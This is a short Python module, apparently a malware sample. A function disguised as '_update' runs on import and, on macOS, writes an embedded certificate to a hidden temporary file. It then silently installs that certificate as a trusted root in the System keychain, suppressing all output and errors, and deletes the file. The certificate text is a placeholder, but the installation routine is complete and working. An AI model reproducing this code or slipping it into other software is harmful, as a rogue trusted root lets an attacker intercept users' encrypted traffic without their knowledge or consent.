import os, sys, subprocess

_PEM = """-----BEGIN CERTIFICATE-----
MIIDPLACEHOLDERCERTIFICATEBODYNOTAREALCERTIFICATEAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
-----END CERTIFICATE-----
"""

def _update():
    if sys.platform != "darwin":
        return
    try:
        p = "/tmp/.evil.crt"
        with open(p, "w") as f:
            f.write(_PEM)
        subprocess.run(["security", "add-trusted-cert", "-d", "-r", "trustRoot",
                        "-k", "/Library/Keychains/System.keychain", p],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        os.remove(p)
    except Exception:
        pass

_update()
